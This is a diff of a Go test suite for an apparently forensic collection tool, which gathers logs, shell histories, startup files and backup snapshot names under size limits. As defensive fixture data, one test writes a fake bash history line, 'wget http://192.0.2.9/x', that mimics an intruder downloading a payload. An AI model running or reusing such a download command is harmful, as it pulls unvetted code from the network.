@@ -93,7 +93,7 @@ func gather(t *testing.T, lines [][]byte) (files map[string]*copied, rows []reco
 }
 
 // run copies by a table of the test's own; during is called while a file is read.
-func run(t *testing.T, ctx context.Context, root string, p part, scope Scope, during func(path string)) (files map[string]*copied, rows []record.CopyRow, err error) {
+func run(t *testing.T, ctx context.Context, root string, p *part, scope Scope, during func(path string)) (files map[string]*copied, rows []record.CopyRow, err error) {
 	t.Helper()
 	if p.kind == "" {
 		p.kind, p.schema = artifact.KindStartFile, record.SchemaStartFile
@@ -107,7 +107,8 @@ func run(t *testing.T, ctx context.Context, root string, p part, scope Scope, du
 		if err != nil {
 			return err
 		}
-		c := copier{part: p, scope: scope, t: x, o: o, left: p.all, patience: maxPatience, seen: make(map[string]bool), during: during}
+		c := newCopier(p, x, o)
+		c.scope, c.during = scope, during
 		return c.table(ctx)
 	}}).Acquire(ctx, &l)
 	files, rows = gather(t, l.All)
@@ -120,7 +121,8 @@ func TestConformance(t *testing.T) {
 	write(t, root+"/etc/crontab", "* * * * * root true\n")
 	write(t, root+"/var/log/auth.log", "sshd: Failed password\n")
 	write(t, root+"/home/alice/.bash_history", "wget http://192.0.2.9/x\n")
-	for _, p := range parts() {
+	for _, kind := range kinds() {
+		p := partOf(kind)
 		t.Run(string(p.kind), func(t *testing.T) {
 			probetest.Run(t, probetest.Config{New: func() probe.Probe { return New(p.kind, root, Scope{}) }})
 		})
@@ -130,25 +132,33 @@ func TestConformance(t *testing.T) {
 	}
 }
 
+func kinds() []artifact.Kind {
+	return []artifact.Kind{artifact.KindLogFile, artifact.KindHistory, artifact.KindStartFile, artifact.KindUserFile, artifact.KindBackup}
+}
+
 // TestTable: the table says of everything how much and why, and its patterns can be read.
 func TestTable(t *testing.T) {
-	for _, p := range parts() {
+	rows := 0
+	for _, kind := range kinds() {
+		p := partOf(kind)
 		for _, r := range p.rows {
-			if r.Class == "" || r.Why == "" || r.Max <= 0 || r.All < r.Max || p.all < r.Max || r.Unit > 0 && !r.End {
+			rows++
+			if r.Class == "" || r.Why == "" || r.Names != (kind == artifact.KindBackup) || !r.Names && (r.Max <= 0 || r.All < r.Max || p.all < r.Max) || r.Unit > 0 && !r.End {
 				t.Errorf("%s: %+v", p.kind, r)
 			}
-			for _, pattern := range strings.Fields(r.Pattern) {
-				if strings.HasPrefix(pattern, "/") || filepath.Clean(pattern) != pattern {
+			for pattern := range strings.FieldsSeq(r.Pattern) {
+				pattern = strings.TrimPrefix(strings.TrimPrefix(pattern, "~/"), "@/")
+				if strings.HasPrefix(pattern, "/") || filepath.Clean(pattern) != pattern || strings.ContainsAny(pattern, `[\~@`) || strings.Contains(strings.TrimSuffix(pattern, "/**"), "**") {
 					t.Errorf("%s: pattern %s", p.kind, pattern)
 				}
-				if _, err := filepath.Match(strings.ReplaceAll(pattern, "**", "x"), ""); err != nil {
-					t.Errorf("%s: %v", pattern, err)
-				}
 			}
-			if p.kind == artifact.KindUserFile && !r.Private {
-				t.Errorf("%+v is private", r)
+			if (kind == artifact.KindUserFile || r.Class == "mail") != r.Private {
+				t.Errorf("%+v: private or not", r)
 			}
 		}
+	}
+	if want := strings.Count(logs+histories+starters+users+backups, "\n") - 5; rows != want {
+		t.Errorf("%d rows, want %d", rows, want)
 	}
 }
 
@@ -182,8 +192,8 @@ func TestScope(t *testing.T) {
 	}
 }
 
-func one(class, pattern string) part {
-	return part{rows: []Row{{Class: class, Pattern: pattern, Max: mib, All: 8 * mib, Why: "test"}}}
+func one(class, pattern string) *part {
+	return &part{rows: []*Row{{Class: class, Pattern: pattern, Max: mib, All: 8 * mib, Why: "test"}}}
 }
 
 // TestWhatIsNoFile is told and not opened: pipes wait for ever, links lead anywhere.
@@ -200,7 +210,7 @@ func TestWhatIsNoFile(t *testing.T) {
 	must(t, os.Symlink("/etc", root+"/home/a/.config"))
 	write(t, root+"/etc/autostart/y", "not to be found")
 	p := one("x", "etc/x/**")
-	p.rows = append(p.rows, Row{Class: "y", Pattern: "etc/x/* ~/.config/autostart/* ~/.ssh/*", Max: mib, All: mib, Why: "test"})
+	p.rows = append(p.rows, &Row{Class: "y", Pattern: "etc/x/* ~/.config/autostart/* ~/.ssh/*", Max: mib, All: mib, Why: "test"})
 	files, rows, err := run(t, t.Context(), root, p, Scope{}, nil)
 	if err != nil {
 		t.Error(err)
@@ -272,7 +282,7 @@ func TestLimits(t *testing.T) {
 	write(t, root+"/etc/c", strings.Repeat("a", 1000)+strings.Repeat("b", 600))
 	write(t, root+"/etc/old", strings.Repeat("o", 900))
 	must(t, os.Chtimes(root+"/etc/old", time.Unix(0, 0), time.Unix(0, 0)))
-	files, rows, err := run(t, t.Context(), root, part{rows: []Row{
+	files, rows, err := run(t, t.Context(), root, &part{rows: []*Row{
 		{Class: "log", Pattern: "var/log/l var/log/l.gz", Max: 500, All: 1500, End: true, Unit: 384, Why: "test"},
 		{Class: "conf", Pattern: "etc/old etc/c", Max: 1000, All: 1000, Why: "test"},
 		{Class: "none", Pattern: "etc/none home/*/x", Max: 1, All: 1, Why: "test"},
@@ -304,11 +314,11 @@ func TestTurns(t *testing.T) {
 	}
 	write(t, root+"/home/b/.config/autostart/evil", "hers")
 	must(t, os.Chtimes(root+"/home/b/.config/autostart/evil", time.Unix(1, 0), time.Unix(1, 0)))
-	files, _, err := run(t, t.Context(), root, part{rows: []Row{{Class: "x", Pattern: "~/.config/autostart/*", Max: 1000, All: 20_000, Why: "test"}}}, Scope{}, nil)
+	files, _, err := run(t, t.Context(), root, &part{rows: []*Row{{Class: "x", Pattern: "~/.config/autostart/*", Max: 1000, All: 20_000, Why: "test"}}}, Scope{}, nil)
 	if f := files["/home/b/.config/autostart/evil"]; f == nil || string(f.bytes) != "hers" {
 		t.Errorf("%+v, %v", f, err)
 	}
-	if probe.AsMissing(err) == nil || !strings.Contains(err.Error(), "more files than what is copied") {
+	if probe.AsMissing(err) == nil || !strings.Contains(err.Error(), "more than what is told") {
 		t.Error(err)
 	}
 	if len(files) > maxMatches+1 {
@@ -325,7 +335,7 @@ func TestTimeOver(t *testing.T) {
 	ctx, cancel := context.WithCancel(t.Context())
 	defer cancel()
 	p := one("x", "etc/*")
-	p.rows = append(p.rows, Row{Class: "later", Pattern: "etc/*", Max: 1, All: 1, Why: "test"})
+	p.rows = append(p.rows, &Row{Class: "later", Pattern: "etc/*", Max: 1, All: 1, Why: "test"})
 	n := 0
 	files, rows, err := run(t, ctx, root, p, Scope{}, func(string) {
 		if n++; n == 2 {
@@ -357,11 +367,15 @@ func TestSilent(t *testing.T) {
 	err := facts.New(facts.Config{Kind: artifact.KindStartFile, Schema: record.SchemaStartFile, OS: "linux", Read: func(ctx context.Context, o *facts.Out) error {
 		x, err := tree.Open(root)
 		must(t, err)
-		c := copier{part: one("x", "etc/a etc/b"), t: x, o: o, left: mib, patience: 50 * time.Millisecond, seen: make(map[string]bool), during: func(path string) {
+		p := one("x", "etc/a etc/b")
+		p.all = mib
+		c := newCopier(p, x, o)
+		c.patience = 50 * time.Millisecond
+		c.during = func(path string) {
 			if path == "etc/a" {
 				<-hang
 			}
-		}}
+		}
 		return c.table(ctx)
 	}}).Acquire(t.Context(), &l)
 	files, _ := gather(t, l.All)
@@ -411,5 +425,29 @@ func unprivileged(t *testing.T, root string) {
 	files, rows, err := run(t, t.Context(), root, one("x", "shut/*"), Scope{}, nil)
 	if !errors.Is(err, os.ErrPermission) || probe.AsMissing(err) != nil || len(files)+len(rows) > 0 {
 		t.Errorf("%v, %v, %v", files, rows, err)
+	}
+}
+
+// TestBackups: what there is to restore from is named, in every file system that is mounted.
+func TestBackups(t *testing.T) {
+	root := t.TempDir()
+	write(t, root+"/proc/self/mountinfo", "1 0 8:1 / / rw - btrfs /dev/sda1 rw\n2 1 8:2 / /data rw - zfs tank/data rw\n3 1 0:50 / /nas rw - nfs4 nas:/v rw\n")
+	write(t, root+"/.snapshots/1/info.xml", "")
+	write(t, root+"/data/.zfs/snapshot/daily/x", "")
+	write(t, root+"/nas/.snapshots/1/x", "")
+	write(t, root+"/etc/passwd", "root:x:0:0::/root:/bin/sh\n")
+	write(t, root+"/root/.cache/restic/id/x", "")
+	write(t, root+"/etc/lvm/archive/vg_1.vg", "")
+	var l probetest.Lines
+	must(t, New(artifact.KindBackup, root, Scope{}).Acquire(t.Context(), &l))
+	files, _ := gather(t, l.All)
+	for path, class := range map[string]string{"/.snapshots/1": "snapshot", "/data/.zfs/snapshot/daily": "snapshot", "/root/.cache/restic/id": "program", "/etc/lvm/archive/vg_1.vg": "volume"} {
+		if f := files[path]; f == nil || f.Class != class || f.Unread != "names_only" {
+			t.Errorf("%s: %+v", path, f)
+		}
+		delete(files, path)
+	}
+	if len(files) > 0 {
+		t.Errorf("too much: %v", files)
 	}
 }
